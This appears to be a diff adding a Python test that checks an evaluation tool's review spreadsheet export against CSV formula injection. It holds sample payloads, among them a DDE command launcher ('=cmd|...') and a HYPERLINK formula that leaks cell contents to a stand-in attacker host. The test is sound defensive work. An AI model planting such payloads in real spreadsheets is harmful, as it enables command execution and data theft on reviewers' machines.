@@ -386,3 +386,73 @@ def test_a_symlinked_jsonl_refuses_the_pair_before_anything_is_written(results, 
     done = invoke("review", results, "--out", out, "--force")
     assert done.exit_code == 2 and "symbolic link" in done.output
     assert not (out / "review.csv").exists() and not (tmp_path / "elsewhere.jsonl").exists()
+
+
+# Case ids a spreadsheet would run (issue 34), hospital ids that look like numbers, and ids
+# holding the escape character itself; run accepts all of them.
+HOSTILE_IDS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://e.vil/?"&A1)', "+1+1", "@SUM(A1)",
+               "-0042", "+44 20 7946 0000", "'quoted", "''=x", "\uff1d1+1", " =1+1", "case-9"]
+
+
+def formula(cell: str) -> bool:
+    """Whether a spreadsheet runs the cell (OWASP's triggers, after spaces, full-width)."""
+    first = cell.lstrip()[:1]
+    return cell[:1] in ("\t", "\r") or (first != "" and first in "=+-@\uff1d\uff0b\uff0d\uff20")
+
+
+def test_hostile_case_ids_are_never_formulas_and_still_join(tmp_path):
+    rows = [{"case_id": case_id, "Resp": f"=HYPERLINK(\"http://e.vil/?\"&B2) {SECRET} {i}",
+             "Truth": f"+{SECRET} {i}"} for i, case_id in enumerate(HOSTILE_IDS)]
+    cases = write_jsonl(tmp_path / "cases.jsonl", rows)
+    results = tmp_path / "results.jsonl"
+    ran = invoke("run", "-r", "drug_monograph_similarity", "-m", "fake", "-i", cases, "-o",
+                 results, "--no-progress")
+    assert ran.exit_code == 0, ran.output
+    out = tmp_path / "sheet"
+    done = invoke("review", results, "--out", out, "--design", "random", "--n",
+                  len(HOSTILE_IDS), "--show-text", "--cases", cases)
+    assert done.exit_code == 0, done.output
+    with open(out / "review.csv", newline="", encoding="utf-8") as handle:
+        table = list(csv.reader(handle))
+    assert len(table) == len(HOSTILE_IDS) + 1
+    assert not [cell for row in table for cell in row if formula(cell)]
+    header = table[0]
+    written = {row[header.index("case_id")] for row in table[1:]}
+    assert '\'=HYPERLINK("http://e.vil/?"&A1)' in written and "'-0042" in written
+    assert "'''=x" in written and "case-9" in written
+    # The JSONL keeps the ids as they are; a clinician fills the label column in the sheet,
+    # every other cell as the tool wrote it.
+    jsonl = [json.loads(line) for line in (out / "review.jsonl").read_text().splitlines()]
+    assert sorted(r["case_id"] for r in jsonl) == sorted(HOSTILE_IDS)
+    label = header.index("Score.label")
+    for position, row in enumerate(table[1:]):
+        row[label] = str(position % 2)
+    filled = tmp_path / "filled.csv"
+    with filled.open("w", newline="", encoding="utf-8") as handle:
+        csv.writer(handle).writerows(table)
+    estimated = invoke("estimate", results, "--labels", filled, "--label-field", "Score.label",
+                       "--json")
+    assert estimated.exit_code == 0, estimated.output
+    first = json.loads(estimated.output.splitlines()[0])
+    assert first["n_labelled"] == len(HOSTILE_IDS) == first["n_cases"]
+    agreed = invoke("agree", results, "--labels", filled, "--label-field", "Score.label",
+                    "--resamples", "100", "--json")
+    assert agreed.exit_code == 0, agreed.output
+    report = json.loads(agreed.output[agreed.output.index("{"):])
+    assert report["joined"] == len(HOSTILE_IDS) and report["unmatched_labels"] == 0
+    again = invoke("review", results, "--out", tmp_path / "next", "--labels", filled,
+                   "--label-field", "Score.label")
+    assert again.exit_code == 0, again.output
+    assert f"{len(HOSTILE_IDS)} labelled already" in again.output
+    # A sheet built by hand with the ids as they are (no leading ') joins too.
+    hand = tmp_path / "hand.csv"
+    with hand.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["case_id", "y"])
+        writer.writerows([case_id, i % 2] for i, case_id in enumerate(HOSTILE_IDS)
+                         if not case_id.startswith("'"))
+    agreed = invoke("agree", results, "--labels", hand, "--label-field", "y", "--resamples",
+                    "100", "--json")
+    assert agreed.exit_code == 0, agreed.output
+    report = json.loads(agreed.output[agreed.output.index("{"):])
+    assert report["joined"] == len(HOSTILE_IDS) - 2 and report["unmatched_labels"] == 0
